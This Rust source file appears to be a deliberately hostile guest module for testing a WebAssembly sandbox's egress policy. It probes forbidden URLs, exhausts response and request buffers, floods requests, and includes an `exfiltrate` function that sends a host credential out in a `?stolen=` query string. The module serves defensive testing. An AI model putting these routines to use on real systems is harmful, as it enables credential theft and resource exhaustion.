//! Attacks on the egress policy.

use sluice_guest::http::Request;
use sluice_guest::{DeliveryOutcome, credentials, log};

/// GETs `url`, which the host should refuse: failed with the host's error
/// when it does, delivered with `reached <url>: HTTP <status>` when not.
pub fn probe(url: &str) -> DeliveryOutcome {
    match Request::get(url).send() {
        Ok(response) => {
            let status = response.status.to_string();
            log::warn(
                "hostile guest reached its target",
                &[("url", url), ("status", &status)],
            );
            DeliveryOutcome::delivered(Some(format!("reached {url}: HTTP {status}")))
        }
        Err(error) => {
            let error = error.to_string();
            log::info("hostile request failed", &[("url", url), ("error", &error)]);
            DeliveryOutcome::failed(format!("GET {url} failed: {error}"))
        }
    }
}

/// GETs `url` and reads the whole body without keeping it, so that only the
/// host's response cap can stop it.
pub fn read_everything(url: &str) -> DeliveryOutcome {
    let mut read: u64 = 0;
    let result = Request::get(url).send_streaming().and_then(|mut response| {
        while let Some(chunk) = response.body.next_chunk()? {
            read += chunk.len() as u64;
        }
        Ok(())
    });
    match result {
        Ok(()) => DeliveryOutcome::delivered(Some(format!("read {read} bytes"))),
        Err(error) => {
            DeliveryOutcome::failed(format!("GET {url} failed after {read} bytes: {error}"))
        }
    }
}

/// GETs `url` `count` times, stopping at the first failure.
pub fn send_many(url: &str, count: u32) -> DeliveryOutcome {
    for sent in 0..count {
        if let Err(error) = Request::get(url).send() {
            return DeliveryOutcome::failed(format!(
                "request {} of {count} failed after {sent} succeeded: {error}",
                sent + 1
            ));
        }
    }
    DeliveryOutcome::delivered(Some(format!("sent {count} requests")))
}

/// Reads credential `key` to send it to `url` in a query string; when the
/// host does not let it read the value, asks the host to authenticate a
/// request to `url` with it instead.
pub fn exfiltrate(key: &str, url: &str) -> DeliveryOutcome {
    if let Some(value) = credentials::get(key) {
        log::warn(
            "hostile guest read a host-applied credential",
            &[("key", key)],
        );
        return probe(&format!("{url}?stolen={value}"));
    }
    match Request::get(url).authenticated(key).send() {
        Ok(response) => DeliveryOutcome::delivered(Some(format!(
            "the host sent {key} to {url}: HTTP {}",
            response.status
        ))),
        Err(error) => DeliveryOutcome::failed(format!("GET {url} with {key} failed: {error}")),
    }
}

/// Bytes streamed by [`stream_post`]: far more than the host's buffers hold.
const STREAMED_BYTES: usize = 1024 * 1024;

/// POSTs a 1 MiB body to `url` the way interpreted guests do: the body is
/// written in full after `handle` and only then is the response awaited,
/// with no retreat to the response future when a write fails (the host
/// refuses `url` or cannot connect to it). Fails with what went wrong
/// first: `body write failed after N bytes: ...` when the host closed the
/// body under the guest, else `response: <error code>` after all bytes.
pub fn stream_post(url: &str) -> DeliveryOutcome {
    use sluice_guest::bindings::wasi::http::outgoing_handler;
    use sluice_guest::bindings::wasi::http::types::{
        Fields, Method, OutgoingBody, OutgoingRequest, Scheme,
    };

    let (https, rest) = match url.split_once("://") {
        Some(("https", rest)) => (true, rest),
        Some(("http", rest)) => (false, rest),
        _ => return DeliveryOutcome::failed(format!("not an http(s) URL: {url}")),
    };
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let length = STREAMED_BYTES.to_string();
    let Ok(headers) = Fields::from_list(&[("content-length".into(), length.into_bytes())]) else {
        return DeliveryOutcome::failed("content-length refused");
    };
    let request = OutgoingRequest::new(headers);
    let scheme = if https { Scheme::Https } else { Scheme::Http };
    let path = if path.is_empty() { "/" } else { path };
    if request.set_method(&Method::Post).is_err()
        || request.set_scheme(Some(&scheme)).is_err()
        || request.set_authority(Some(authority)).is_err()
        || request.set_path_with_query(Some(path)).is_err()
    {
        return DeliveryOutcome::failed(format!("cannot build a request to {url}"));
    }
    let Ok(body) = request.body() else {
        return DeliveryOutcome::failed("no request body");
    };
    let pending = match outgoing_handler::handle(request, None) {
        Ok(pending) => pending,
        Err(code) => return DeliveryOutcome::failed(format!("handle: {code:?}")),
    };
    let Ok(stream) = body.write() else {
        return DeliveryOutcome::failed("no body stream");
    };
    let chunk = [b'x'; 4096];
    let mut written = 0;
    while written < STREAMED_BYTES {
        if let Err(error) = stream.blocking_write_and_flush(&chunk) {
            return DeliveryOutcome::failed(format!(
                "body write failed after {written} bytes: {error:?}"
            ));
        }
        written += chunk.len();
    }
    drop(stream);
    if let Err(code) = OutgoingBody::finish(body, None) {
        return DeliveryOutcome::failed(format!("finish after {written} bytes: {code:?}"));
    }
    let outcome = loop {
        match pending.get() {
            Some(Ok(Ok(response))) => break format!("HTTP {}", response.status()),
            Some(Ok(Err(code))) => break format!("{code:?}"),
            Some(Err(())) => break "the response was already taken".to_owned(),
            None => pending.subscribe().block(),
        }
    };
    log::info("hostile post answered", &[("outcome", &outcome)]);
    DeliveryOutcome::failed(format!("wrote {written} bytes; response: {outcome}"))
}
